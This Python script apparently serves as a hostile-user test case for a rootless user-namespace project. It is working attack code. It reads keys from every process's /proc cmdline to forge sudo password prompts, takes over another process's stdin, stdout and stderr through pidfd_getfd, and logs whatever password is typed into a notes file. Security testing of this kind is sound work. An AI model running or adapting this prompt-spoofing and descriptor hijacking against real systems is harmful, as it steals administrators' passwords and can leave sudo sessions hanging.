#!/usr/bin/python3 -IS
# Copyright (c) 2026, the userns.rootless authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a hostile user tries, to be given the password of who runs Ansible; notes what it reads.

Mounted over the shell of the user's namespace, it asks for the password in all ways. As `watch` it does the same from
outside, through the open files of every new process of the user's.
"""

import ctypes
import glob
import os
import re
import select
import sys
import time

NOTES = "/home/rnsred/notes"


def prompts():
    """Every prompt that could be the right one, by what all can read in /proc."""
    keys = {b"0" * 32}
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                keys.update(re.findall(rb"\b[a-z0-9]{32}\b", file.read()))
        except OSError:
            continue
    lines = [b"\nROOTLESS-NS-PROMPT-" + b"0" * 32 + b" "]
    lines += [b"\n[sudo via ansible, key=" + key + b"] password:" for key in keys]
    return b"".join(lines)


def note(what):
    with open(NOTES, "ab") as notes:
        notes.write(what)


def ask(source, targets):
    text = prompts()
    for target in targets:
        os.write(target, text)
    note(b"asked\n")
    while select.select([source], [], [], 0.5)[0]:
        byte = os.read(source, 1)
        note(byte)
        if byte in (b"", b"\n"):
            return


def watch():
    note(b"watching\n")
    seen = {os.getpid()}
    end = time.time() + 300
    while time.time() < end and not os.path.exists(f"{NOTES}.stop"):
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in seen:
                continue
            try:
                if os.stat(f"/proc/{entry}").st_uid != os.getuid():
                    continue
                with open(f"/proc/{entry}/cmdline", "rb") as file:
                    if b"SO_PEERCRED" not in file.read():
                        continue
            except OSError:
                continue
            seen.add(int(entry))
            attack(int(entry))


def attack(pid):
    """Take the process's streams, as its owner may by pidfd_getfd(2).

    It is not stopped: sudo stops with it, and is continued by nobody; so a user can have any task of its own hang.
    """
    libc = ctypes.CDLL(None)
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        return
    files = [libc.syscall(ctypes.c_long(438), pidfd, number, 0) for number in range(3)]
    if min(files) >= 0:
        note(b"took streams\n")
        ask(files[0], files[1:])
    for fd in [pidfd, *files]:
        if fd >= 0:
            os.close(fd)


if os.path.basename(sys.argv[0]) == "asks.py" and sys.argv[1:] == ["watch"]:
    watch()
else:
    ask(0, (2, 1))
    os.execv("/usr/bin/bash", ["sh", *sys.argv[1:]])
